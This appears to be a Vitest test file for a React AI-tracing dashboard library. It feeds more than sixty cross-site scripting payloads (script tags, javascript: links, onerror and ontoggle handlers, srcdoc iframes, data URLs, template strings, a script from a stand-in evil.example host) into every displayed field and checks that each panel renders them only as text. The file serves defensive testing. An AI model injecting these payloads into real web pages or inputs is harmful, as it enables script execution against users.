/**
 * Hostile event text in every panel: script tags, `javascript:` links, SVG and image handlers,
 * iframes, markdown links, entities, styles, escaped and template variants, placed in every
 * field a panel shows (inputs, outputs, tool-call arguments, span and trace names, models,
 * users, organisations, features, error messages, prompt names). Every panel must show them
 * as text: no element, attribute or URL may come from the data, no handler may run, and the
 * text must be on screen (so a panel that dropped it would not pass for a safe one).
 *
 * jsdom runs inline handlers (`ontoggle`, `onerror` of some elements) but loads no images and
 * runs no `<script>` set through `innerHTML`, so the `alert` spy and the global flag are a
 * second line; the structural checks on the DOM are what fail first. Both sit on jsdom's own
 * window (`jsdom.window`): Vitest's test globals are copies that page code never sees.
 */
import { cleanup, render, waitFor } from '@testing-library/react'
import type { ReactElement } from 'react'
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest'
import type { AiscopeClient } from '../../src'
import {
  AiscopeProvider,
  CostAttributionDashboard,
  CostBreakdown,
  GenerationsTable,
  ModelHealth,
  ModelHealthDashboard,
  ModelHealthTiles,
  TraceExplorer,
  TracesTable,
  TraceViewer,
  UsageByUser,
  WhatIfRepricing,
} from '../../src/react'
import type { AiscopeEvent } from '../../src/schema'
import { FIRST_QUERY, clientWith } from '../react/traces/fixtures'

/** The global a payload sets if it ever runs. */
const FLAG = '__aiscopeXss'

const XSS_PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  `<script>window.${FLAG}=1</script>`,
  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  `<img src="x" onerror="window.${FLAG}=1">`,
  '<IMG SRC="javascript:alert(1);">',
  '<img src=`javascript:alert(1)`>',
  '<svg onload=alert(1)>',
  `<svg/onload=window.${FLAG}=1>`,
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">click</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  `<iframe srcdoc="<script>window.${FLAG}=1</script>"></iframe>`,
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">click me</a>',
  '<a href="JaVaScRiPt:alert(1)">mixed case</a>',
  '<a href="&#106;avascript:alert(1)">entity scheme</a>',
  '<a href=" javascript:alert(1)">leading space</a>',
  'javascript:alert(1)',
  'javascript://%0aalert(1)',
  '[click](javascript:alert(1))',
  '[x](javascript:alert(1) "title")',
  '![x](javascript:alert(1))',
  '![img](https://evil.example/x.png" onerror="alert(1))',
  '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '<a href="data:text/html,<script>alert(1)</script>">data link</a>',
  'data:text/html,<script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '<style>body{background:url("javascript:alert(1)")}</style>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<div style="background-image:url(javascript:alert(1))">styled</div>',
  '<div style="width: expression(alert(1))">ie</div>',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<button formaction="javascript:alert(1)">go</button>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '\\x3cimg src=x onerror=alert(1)\\x3e',
  '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
  '\u003cscript\u003ealert("unicode")\u003c/script\u003e',
  '＜script＞alert(1)＜/script＞',
  "{{constructor.constructor('alert(1)')()}}",
  '${alert(1)}',
  '`${alert(1)}`',
  '{{7*7}} <%= 7*7 %> #{7*7}',
  '{"__html":"<img src=x onerror=alert(1)>"}',
  "');alert(1);//",
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
]

/** "Now" of the dashboards' presets: a day after the events. */
const NOW_MS = Date.UTC(2026, 10, 27, 12)
const RANGE = { fromMs: Date.UTC(2026, 10, 20), toMs: NOW_MS }
const at = (index: number, seconds = 0) => new Date(Date.UTC(2026, 10, 26, 9) + index * 60_000 + seconds * 1000).toISOString()

/** A trace per payload: the payload in every field a panel shows. */
function hostileTrace(payload: string, index: number): AiscopeEvent[] {
  const traceId = `trace-${index}`
  const who = { distinct_id: payload }
  const shared = { $ai_trace_id: traceId, $groups: { company: payload }, feature: payload, $ai_session_id: `session-${index}` }
  return [
    {
      event: '$ai_trace',
      uuid: `t-${index}`,
      ...who,
      timestamp: at(index),
      properties: { ...shared, $ai_span_name: payload, $ai_latency: 2, $ai_input_state: { question: payload }, $ai_output_state: payload },
    },
    {
      event: '$ai_span',
      uuid: `s-${index}`,
      ...who,
      timestamp: at(index, 0.1),
      properties: {
        ...shared,
        $ai_span_id: `span-${index}`,
        $ai_parent_id: traceId,
        $ai_span_name: payload,
        $ai_span_type: 'tool',
        $ai_latency: 0.3,
        $ai_input_state: { query: payload },
        $ai_output_state: payload,
      },
    },
    {
      event: '$ai_generation',
      uuid: `gen-${index}`,
      ...who,
      timestamp: at(index, 0.5),
      properties: {
        ...shared,
        $ai_generation_id: `gen-${index}`,
        $ai_parent_id: traceId,
        $ai_span_name: payload,
        $ai_model: payload,
        $ai_provider: 'openai',
        $ai_prompt_name: payload,
        $ai_prompt_version: 1,
        $ai_input: [
          { role: 'system', content: payload },
          { role: 'user', content: payload },
        ],
        $ai_output_choices: [
          {
            role: 'assistant',
            content: payload,
            tool_calls: [{ id: `call-${index}`, type: 'function', function: { name: 'lookup', arguments: JSON.stringify({ query: payload }) } }],
          },
        ],
        $ai_input_tokens: 100 + index,
        $ai_output_tokens: 10,
        $ai_total_cost_usd: (index + 1) / 100,
        $ai_latency: 1 + index / 100,
        ...(index % 2 === 0 ? { $ai_is_error: true, $ai_http_status: 500, $ai_error: { message: payload, type: 'server_error' } } : {}),
      },
    },
  ]
}

const ELEMENTS_FROM_DATA = 'script, iframe, object, embed, style, link, meta, base, form, img, video, audio, source, math, noscript, marquee, textarea, button[formaction], input[autofocus]'
const URL_ATTRIBUTES = ['href', 'src', 'srcdoc', 'action', 'formaction', 'xlink:href', 'data', 'background', 'poster']

/** Everything in `container` that did not come from aiscope's own markup: empty when safe. */
function injectedMarkup(container: Element): string[] {
  const found: string[] = []
  for (const element of container.querySelectorAll(ELEMENTS_FROM_DATA)) {
    found.push(`<${element.tagName.toLowerCase()}> element: ${element.outerHTML.slice(0, 120)}`)
  }
  for (const element of container.querySelectorAll('*')) {
    for (const attribute of element.attributes) {
      const name = attribute.name.toLowerCase()
      const value = attribute.value.replace(/\s/g, '').toLowerCase()
      if (name.startsWith('on')) {
        found.push(`${name} attribute on <${element.tagName.toLowerCase()}>`)
      }
      if (URL_ATTRIBUTES.includes(name)) {
        found.push(`${name}="${attribute.value}" on <${element.tagName.toLowerCase()}>`)
      }
      if (name === 'style' && /javascript:|expression\(|url\(|@import/.test(value)) {
        found.push(`style="${attribute.value}" on <${element.tagName.toLowerCase()}>`)
      }
    }
  }
  for (const link of container.querySelectorAll('a')) {
    found.push(`<a> element: ${link.outerHTML.slice(0, 120)}`)
  }
  // aiscope draws SVG only in charts: the chart itself (a group), its legend swatches, and
  // what visx draws inside the chart. Any other <svg> came from data.
  for (const svg of container.querySelectorAll('svg')) {
    const isChart = svg.getAttribute('role') === 'group' && svg.closest('.aiscope-ChartCanvas') !== null
    const isSwatch = svg.getAttribute('aria-hidden') === 'true' && svg.closest('.aiscope-ChartLegend') !== null
    const insideChart = Boolean(svg.parentElement?.closest('svg[role="group"]'))
    if (!isChart && !isSwatch && !insideChart) {
      found.push(`<svg> outside a chart: ${svg.outerHTML.slice(0, 120)}`)
    }
  }
  return found
}

/** The payloads shown as text in `container`. */
function payloadsShown(container: Element): string[] {
  const text = container.textContent ?? ''
  return XSS_PAYLOADS.filter((payload) => text.includes(payload))
}

/** Waits until every panel in `container` has an answer (ready or empty), failing on an error state. */
async function panelsSettled(container: Element): Promise<void> {
  await waitFor(() => {
    const sections = [...container.querySelectorAll('section[data-state]')]
    expect(sections.length).toBeGreaterThan(0)
    expect(sections.filter((section) => section.getAttribute('data-state') === 'error').map((section) => section.textContent)).toEqual([])
    expect(sections.filter((section) => section.getAttribute('data-state') === 'loading')).toEqual([])
    expect(sections.some((section) => section.getAttribute('data-state') === 'ready')).toBe(true)
  }, FIRST_QUERY)
}

let client: AiscopeClient
/** The window inline handlers run against: jsdom's own, not Vitest's copy of its globals. */
const pageWindow = ((globalThis as { jsdom?: { window: Window } }).jsdom?.window ?? window) as Window & Record<string, unknown>
const alertSpy = vi.fn()
const originalAlert = pageWindow.alert

beforeAll(async () => {
  pageWindow.alert = alertSpy
  client = await clientWith(XSS_PAYLOADS.flatMap(hostileTrace))
}, 60_000)

afterEach(() => {
  cleanup()
  expect(alertSpy).not.toHaveBeenCalled()
  expect(pageWindow[FLAG]).toBeUndefined()
})

afterAll(async () => {
  pageWindow.alert = originalAlert
  await client.close()
})

const withClient = (panel: ReactElement) => <AiscopeProvider client={client}>{panel}</AiscopeProvider>

describe('hostile event text in every panel', () => {
  it('has at least 50 distinct payloads, all stored as sent', async () => {
    expect(new Set(XSS_PAYLOADS).size).toBe(XSS_PAYLOADS.length)
    expect(XSS_PAYLOADS.length).toBeGreaterThanOrEqual(50)
    const { events } = await client.query({ kind: 'traceEvents', traceId: 'trace-7', nodeIds: ['gen-7'] })
    expect(events[0]?.properties.$ai_model).toBe(XSS_PAYLOADS[7])
  })

  it.each<[string, () => ReactElement]>([
    ['TracesTable', () => <TracesTable range={RANGE} />],
    ['GenerationsTable', () => <GenerationsTable range={RANGE} />],
    ['TraceExplorer with a generation open', () => <TraceExplorer range={RANGE} traceId="trace-0" spanId="gen-0" />],
    ['TraceExplorer listing LLM calls', () => <TraceExplorer range={RANGE} list="generations" traceId="trace-1" spanId="span-1" />],
    ['CostBreakdown by model', () => <CostBreakdown by="model" range={RANGE} timeZone="UTC" />],
    ['CostBreakdown by user', () => <CostBreakdown by="user" range={RANGE} timeZone="UTC" />],
    ['CostBreakdown by feature', () => <CostBreakdown by="feature" range={RANGE} timeZone="UTC" />],
    ['CostBreakdown by prompt name', () => <CostBreakdown by="promptName" range={RANGE} timeZone="UTC" />],
    ['ModelHealth', () => <ModelHealth range={RANGE} timeZone="UTC" />],
    ['UsageByUser by user', () => <UsageByUser by="user" range={RANGE} budgets={{ [XSS_PAYLOADS[0] as string]: 0 }} />],
    ['UsageByUser by organisation', () => <UsageByUser by="organisation" range={RANGE} />],
    ['WhatIfRepricing', () => <WhatIfRepricing range={RANGE} />],
    ['CostAttributionDashboard', () => <CostAttributionDashboard nowMs={NOW_MS} timeZone="UTC" />],
    ['ModelHealthDashboard', () => <ModelHealthDashboard nowMs={NOW_MS} timeZone="UTC" />],
  ])('%s shows hostile text as text and adds no markup from it', async (_, panel) => {
    const { container } = render(withClient(panel()))
    await panelsSettled(container)
    await waitFor(() => expect(payloadsShown(container).length).toBeGreaterThan(0), FIRST_QUERY)
    expect(injectedMarkup(container)).toEqual([])
  })

  it('ModelHealthTiles adds no markup from hostile data', async () => {
    const { container } = render(withClient(<ModelHealthTiles range={RANGE} previousRange={null} />))
    await panelsSettled(container)
    expect(container.textContent).toMatch(/\d/)
    expect(injectedMarkup(container)).toEqual([])
  })

  it('TraceViewer shows every payload as text in the tree, the transcript, the tool call and the raw JSON of its trace', { timeout: 120_000 }, async () => {
    const wrong: string[] = []
    for (const [index, payload] of XSS_PAYLOADS.entries()) {
      const { container, unmount } = render(withClient(<TraceViewer traceId={`trace-${index}`} selectedSpanId={`gen-${index}`} />))
      await panelsSettled(container)
      await waitFor(() => expect(container.querySelector('[data-role="assistant"] [data-part="tool-call"] pre')).not.toBeNull(), FIRST_QUERY)
      const texts = (selector: string) => [...container.querySelectorAll(selector)].map((element) => element.textContent)
      const seen = {
        // Span names in the tree: the trace, the tool span and the generation.
        treeNames: texts('.aiscope-NodeName'),
        system: texts('[data-role="system"] [data-part="text"]'),
        user: texts('[data-role="user"] [data-part="text"]'),
        assistant: texts('[data-role="assistant"] [data-part="text"]'),
        toolArguments: texts('[data-part="tool-call"] pre').map((text) => JSON.parse(text ?? 'null') as unknown),
      }
      const expected = {
        treeNames: [payload, payload, payload],
        system: [payload],
        user: [payload],
        assistant: [payload],
        toolArguments: [{ query: payload }],
      }
      if (JSON.stringify(seen) !== JSON.stringify(expected)) {
        wrong.push(`${index}: ${JSON.stringify(seen)}`)
      }
      // The raw JSON view holds the stored event, model and prompt name included.
      const rawJson = texts('details pre').join('\n')
      for (const needle of [JSON.stringify(payload).slice(1, -1)]) {
        if (!rawJson.includes(needle)) {
          wrong.push(`${index}: raw JSON lacks ${needle}`)
        }
      }
      if (index % 2 === 0 && !(container.textContent ?? '').includes(payload)) {
        wrong.push(`${index}: error message not shown`)
      }
      expect(injectedMarkup(container), payload).toEqual([])
      unmount()
    }
    expect(wrong).toEqual([])
  })

  it('would notice a panel that rendered the payloads as HTML', () => {
    // An inert document: its handlers never run, so this test leaves the spy untouched.
    const inert = document.implementation.createHTMLDocument('inert')
    const missed = XSS_PAYLOADS.filter((payload) => {
      const asHtml = inert.createElement('div')
      asHtml.innerHTML = `<p>${payload}</p>`
      const detected = injectedMarkup(asHtml).length > 0 || !payloadsShown(asHtml).includes(payload)
      // Text with no markup renders the same either way, and is harmless as text.
      return !detected && /<[a-z!/]|&#?\w+;/i.test(payload)
    })
    expect(missed).toEqual([])
  })

  it('would notice a handler that ran: the alert spy and the flag sit on the window handlers see', async () => {
    const live = document.createElement('div')
    document.body.append(live)
    live.innerHTML = `<details open ontoggle="alert(1);window.${FLAG}=1"><summary>x</summary></details>`
    await waitFor(() => expect(alertSpy).toHaveBeenCalledWith(1))
    expect(pageWindow[FLAG]).toBe(1)
    live.remove()
    alertSpy.mockClear()
    delete pageWindow[FLAG]
  })
})
